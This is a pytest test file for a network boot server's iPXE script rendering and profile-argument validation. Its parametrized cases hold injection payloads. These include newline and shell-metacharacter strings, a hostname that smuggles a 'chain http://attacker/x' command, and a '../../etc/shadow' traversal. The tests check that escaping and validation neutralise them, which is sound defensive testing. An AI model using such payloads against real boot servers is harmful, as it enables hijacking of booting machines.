"""Boot profiles, argument validation and iPXE-safe rendering."""
from __future__ import annotations

import pytest

from netbootd.model import Host, HostState
from netbootd.policy.boot import (PROFILES, BootSpec, ProfileError, Renderer, boot_spec,
                                  ipxe_escape, validate_args)

BASE = "http://10.77.0.1:8080"
MAC = "52:54:00:77:00:10"


@pytest.fixture(scope="module")
def renderer():
    return Renderer(discover_cmdline="console=ttyS0")


def lines(text):
    return [ln for ln in text.splitlines() if ln and not ln.startswith("#")]


@pytest.mark.parametrize("evil", [
    "x\nshell", "x\r\nreboot", "${root-path}", "a || reboot", "a && shell", "a b",
    "#!ipxe", "x;chain http://evil/", "\0", "é", "`id`", "$(reboot)",
])
def test_host_controlled_text_lands_as_one_inert_token(evil):
    out = ipxe_escape(evil)
    assert " " not in out and "\n" not in out and "\r" not in out and "$" not in out
    assert "|" not in out and "&" not in out and ";" not in out and "#" not in out
    assert "`" not in out and "\0" not in out


def test_hostname_cannot_inject_commands_into_a_script(renderer):
    spec = BootSpec("shell", MAC, BASE, {}, hostname="evil\nchain http://attacker/x ${x}")
    text = renderer.render(spec)
    assert "chain http://attacker" not in text
    assert lines(text) == ["echo netbootd: iPXE shell for 52:54:00:77:00:10 "
                           "(evil%0Achain%20http://attacker/x%20%24%7Bx%7D)", "shell"]


def test_every_profile_renders_a_script(renderer):
    args = {"linux": {"kernel": "vmlinuz", "initrds": ["initrd.img"], "cmdline": "quiet"},
            "sanboot": {"san_uri": "iscsi:10.0.0.1::::iqn.2026-01.lan.netboot:vol1"}}
    for p in PROFILES:
        text = renderer.render(BootSpec(p, MAC, BASE, validate_args(p, args.get(p, {}))))
        assert text.startswith("#!ipxe\n")


def test_discover_boots_the_agent_with_the_server_on_the_command_line(renderer):
    text = renderer.render(BootSpec("discover", MAC, BASE))
    assert f"kernel {BASE}/files/netbootd/vmlinuz initrd=discover.img " \
           f"netbootd.server={BASE} console=ttyS0 || goto failed" in text
    assert f"initrd --name discover.img {BASE}/files/netbootd/discover.img" in text


def test_linux_names_its_initrds_for_ipxe_efi_and_resolves_file_names(renderer):
    spec = BootSpec("linux", MAC, BASE, validate_args("linux", {
        "kernel": "debian/vmlinuz", "initrds": ["debian/initrd.gz", "http://x/extra.cpio"],
        "cmdline": "console=ttyS0 BOOTIF=${net0/mac}"}))
    text = renderer.render(spec)
    assert (f"kernel {BASE}/files/debian/vmlinuz initrd=initrd.gz initrd=extra.cpio "
            "console=ttyS0 BOOTIF=${net0/mac} || goto failed") in text
    assert f"initrd {BASE}/files/debian/initrd.gz || goto failed" in text
    assert "initrd http://x/extra.cpio || goto failed" in text


def test_sanboot_sets_the_initiator_name(renderer):
    text = renderer.render(BootSpec("sanboot", MAC, BASE, validate_args("sanboot", {
        "san_uri": "iscsi:10.0.0.1:::1:iqn.2026-01.lan.netboot:vol1",
        "initiator_iqn": "iqn.2026-01.lan.netboot:host1"})))
    assert lines(text)[:2] == ["set initiator-iqn iqn.2026-01.lan.netboot:host1",
                               "sanboot iscsi:10.0.0.1:::1:iqn.2026-01.lan.netboot:vol1 "
                               "|| goto failed"]


def test_localboot_exits_to_the_next_boot_device(renderer):
    assert lines(renderer.render(BootSpec("localboot", MAC, BASE)))[-1] == "exit"


@pytest.mark.parametrize("profile, args, key", [
    ("windows", {}, "profile"),
    ("linux", {}, "kernel"),
    ("linux", {"kernel": "vmlinuz", "cmdline": "a\nshell"}, "cmdline"),
    ("linux", {"kernel": "../../etc/shadow"}, "kernel"),
    ("linux", {"kernel": "vmlinuz", "initrds": ["ok", "bad name"]}, "initrds[1]"),
    ("linux", {"kernel": "http://x/$(id)"}, "kernel"),
    ("linux", {"kernel": "vmlinuz", "bogus": 1}, "bogus"),
    ("sanboot", {"san_uri": "iscsi:1.2.3.4 || shell"}, "san_uri"),
    ("sanboot", {"san_uri": "iscsi:1.2.3.4::::iqn.2026-01.x:y", "initiator_iqn": "x y"},
     "initiator_iqn"),
    ("localboot", {"kernel": "x"}, "kernel"),
])
def test_bad_profile_arguments_are_named(profile, args, key):
    with pytest.raises(ProfileError) as e:
        validate_args(profile, args)
    assert str(e.value).startswith(key + ":")


def test_boot_spec_uses_the_assignment_only_while_assigned():
    h = Host(MAC, HostState.IDLE, profile="localboot")
    assert boot_spec(h, MAC, BASE, "discover").profile == "discover"
    h.state = HostState.ASSIGNED
    assert boot_spec(h, MAC, BASE, "discover").profile == "localboot"
    h.state = HostState.RETIRED
    assert boot_spec(h, MAC, BASE, "discover").profile == "localboot"
    assert boot_spec(None, MAC, BASE, "discover").profile == "discover"


@pytest.mark.parametrize("args, key", [
    ({"san_uri": "iscsi:1.2.3.4::::iqn.2026-01.x:y", "initiator_iqn": {}}, "initiator_iqn"),
    ({"san_uri": ["iscsi:x"]}, "san_uri"),
])
def test_non_string_arguments_are_refused_not_ignored(args, key):
    with pytest.raises(ProfileError) as e:
        validate_args("sanboot", args)
    assert str(e.value).startswith(key + ":")
